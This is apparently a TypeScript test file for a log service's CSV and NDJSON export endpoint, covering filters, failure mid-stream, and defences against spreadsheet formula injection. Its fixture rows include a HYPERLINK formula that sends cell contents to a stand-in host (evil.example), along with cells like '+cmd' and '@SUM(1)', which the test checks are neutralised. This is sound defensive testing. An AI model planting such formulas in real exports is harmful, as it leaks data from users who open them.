// Issue 21 items 5 and 9: CSV exports with attribute or resource filters, formula injection, and
// an export that fails after its first bytes.
import t from 'tap';
import type { ClickHouseStore } from '../../../src/infra/clickhouse/store.ts';
import { buildTestApp } from '../../helpers/app.ts';
import { createTestClickHouse } from '../../helpers/services.ts';
import { makeTenant } from '../auth/auth-fixtures.ts';
import { get, insertRows, makeRow, nowNs, NS_PER_MS, qs } from '../search/search-fixtures.ts';

const MINUTE_NS = 60_000n * NS_PER_MS;

/** RFC 4180 records (quoted cells with "" escapes, CRLF or LF line ends). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let cell = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
    } else if (c !== '\r' || text[i + 1] !== '\n') cell += c;
  }
  if (cell !== '' || record.length > 0) records.push([...record, cell]);
  return records;
}

/** The real store; its n-th stream first renames `logs` away, so that query fails in ClickHouse. */
function tableVanishesAt(store: ClickHouseStore, nth: number): ClickHouseStore {
  let streams = 0;
  const faulty: ClickHouseStore = Object.create(store) as ClickHouseStore;
  faulty.queryStream = async function* (...args) {
    streams += 1;
    if (streams === nth) await store.command('RENAME TABLE logs TO logs_vanished');
    yield* store.queryStream(...args);
  };
  return faulty;
}

t.test('CSV export', async (t) => {
  const { app, db, config, clickhouse } = await buildTestApp(t);
  const a = await makeTenant(db, config, 'csv-a');
  const token = a.tokens.viewer;
  const tenant = { orgId: a.org.id, appId: a.app.id };
  const base = (nowNs() / MINUTE_NS) * MINUTE_NS - 30n * MINUTE_NS;
  await insertRows(clickhouse, [
    makeRow(tenant, {
      tsNs: base + 1n,
      message: 'plain line',
      attributes: { k: 'v' },
      resource: { 'service.name': 'checkout' },
    }),
    makeRow(tenant, {
      tsNs: base + 2n,
      level: 'error',
      message: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      service: '+cmd',
      host: '-2+3',
      user_id: '@SUM(1)',
      trace_id: '\tleading tab',
      attributes: { other: '1' },
    }),
    makeRow(tenant, { tsNs: base + 3n, message: '\rcarriage', service: 'ok' }),
  ]);
  const range = { from: 'now-1h', to: 'now' };

  await t.test('an attribute filter works in CSV (was a 500)', async (t) => {
    const res = await get(
      app,
      token,
      `/v1/logs/export?${qs({ ...range, format: 'csv', q: 'k:*' })}`,
    );
    t.equal(res.statusCode, 200, res.body);
    const records = parseCsv(res.body);
    t.equal(records.length, 2, 'header and the one row with k');
    t.equal(records[1]?.[6], 'plain line');
    t.same(JSON.parse(records[1]?.[7] ?? ''), { k: 'v' });
  });

  await t.test('a resource filter matches in CSV (returned only the header)', async (t) => {
    for (const q of ['resource.service.name:checkout', 'resource.service.name:*']) {
      const res = await get(app, token, `/v1/logs/export?${qs({ ...range, format: 'csv', q })}`);
      t.equal(res.statusCode, 200, res.body);
      const records = parseCsv(res.body);
      t.equal(records.length, 2, `${q}: header and one row`);
      t.same(JSON.parse(records[1]?.[8] ?? ''), { 'service.name': 'checkout' });
    }
  });

  await t.test('cells that a spreadsheet would run as formulas are neutralised', async (t) => {
    const res = await get(app, token, `/v1/logs/export?${qs({ ...range, format: 'csv' })}`);
    t.equal(res.statusCode, 200, res.body);
    const records = parseCsv(res.body);
    const header = records[0] as string[];
    const byMessage = new Map(records.slice(1).map((r) => [r[header.indexOf('message')], r]));
    const evil = byMessage.get(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    t.ok(evil, `the formula is prefixed with a quote: ${[...byMessage.keys()].join(' | ')}`);
    const cell = (name: string) => evil?.[header.indexOf(name)];
    t.equal(cell('service'), "'+cmd");
    t.equal(cell('host'), "'-2+3");
    t.equal(cell('user_id'), "'@SUM(1)");
    t.equal(cell('trace_id'), "'\tleading tab");
    t.ok(byMessage.has("'\rcarriage"), 'a leading CR too');
    for (const record of records.slice(1)) {
      for (const value of record) t.notMatch(value, /^[=+\-@\t\r]/, 'no cell starts a formula');
    }
    const json = await get(app, token, `/v1/logs/export?${qs({ ...range, q: 'level:error' })}`);
    t.equal(
      JSON.parse(json.body.trim()).message,
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      'NDJSON keeps the raw value',
    );
  });
});

t.test('an export failing midway says so at its end', async (t) => {
  const { app, db, config, clickhouse } = await buildTestApp(t, {
    env: { SEARCH_EXPORT_WINDOW_ROWS: '1' },
    clickhouse: tableVanishesAt(await createTestClickHouse(t), 3),
  });
  const a = await makeTenant(db, config, 'midway-a');
  const tenant = { orgId: a.org.id, appId: a.app.id };
  const base = (nowNs() / MINUTE_NS) * MINUTE_NS - 30n * MINUTE_NS;
  await insertRows(
    clickhouse,
    Array.from({ length: 6 }, (_, i) =>
      makeRow(tenant, { tsNs: base + BigInt(i) * MINUTE_NS, message: `line ${i}` }),
    ),
  );
  const ndjson = await get(app, a.tokens.viewer, `/v1/logs/export?from=now-1h`);
  t.equal(ndjson.statusCode, 200, 'the first rows were already sent');
  const lines = ndjson.body.trim().split('\n');
  t.ok(lines.length >= 2, ndjson.body);
  const last = JSON.parse(lines.at(-1) as string);
  t.equal(last.error?.code, 'export_failed', `the last line is an error: ${lines.at(-1)}`);
  t.equal(ndjson.trailers['x-export-status'], 'failed');
  await clickhouse.command('RENAME TABLE logs_vanished TO logs');

  const csv = await get(app, a.tokens.viewer, `/v1/logs/export?from=now-1h&format=csv`);
  t.equal(csv.statusCode, 200);
  t.equal(csv.trailers['x-export-status'], 'complete', 'a whole export says complete');
  t.equal(parseCsv(csv.body).length, 7, 'header and six rows');
});
